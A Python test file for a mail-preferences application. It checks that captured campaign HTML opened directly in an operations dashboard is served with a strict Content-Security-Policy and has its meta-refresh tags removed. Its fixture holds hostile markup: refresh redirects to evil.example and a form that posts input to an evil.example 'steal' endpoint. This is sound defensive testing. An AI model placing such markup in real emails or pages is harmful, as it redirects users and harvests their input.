"""Issue 13 finding 12 (captured mail): the HTML of a captured message, even opened
directly rather than in its sandboxed frame, can submit no form and refresh nowhere."""

from __future__ import annotations

from mailprefs.delivery.transport import captured_files
from mailprefs.delivery.worker import Worker
from tests.support.factories import campaign_due_now, person

HOSTILE = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "<META HTTP-EQUIV=Refresh CONTENT='1; URL=https://evil.example/'>"
    '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>'
    "<p>Hello</p>"
)


def test_captured_html_opened_directly_allows_no_form_and_no_refresh(app, db, ops_client):
    with db.transaction() as s:
        person(s, "reader@example.com", opted_in=("offers",))
        campaign_due_now(s, subject="S", text="T", html=HOSTILE)
    Worker(app).run_due()
    (path,) = captured_files(app.config["MAILPREFS_MAIL_CAPTURE_DIR"])
    reply = ops_client.get(f"/dashboard/mail/{path.name}/html")
    assert reply.status_code == 200
    policy = reply.headers["Content-Security-Policy"]
    directives = {d.strip().split(" ")[0]: d.strip() for d in policy.split(";")}
    assert directives["form-action"] == "form-action 'none'"
    assert directives["sandbox"] == "sandbox"  # as the iframe is: no scripts, no forms
    assert directives["default-src"] == "default-src 'none'"
    body = reply.get_data(as_text=True)
    assert "refresh" not in body.lower() and "Hello" in body
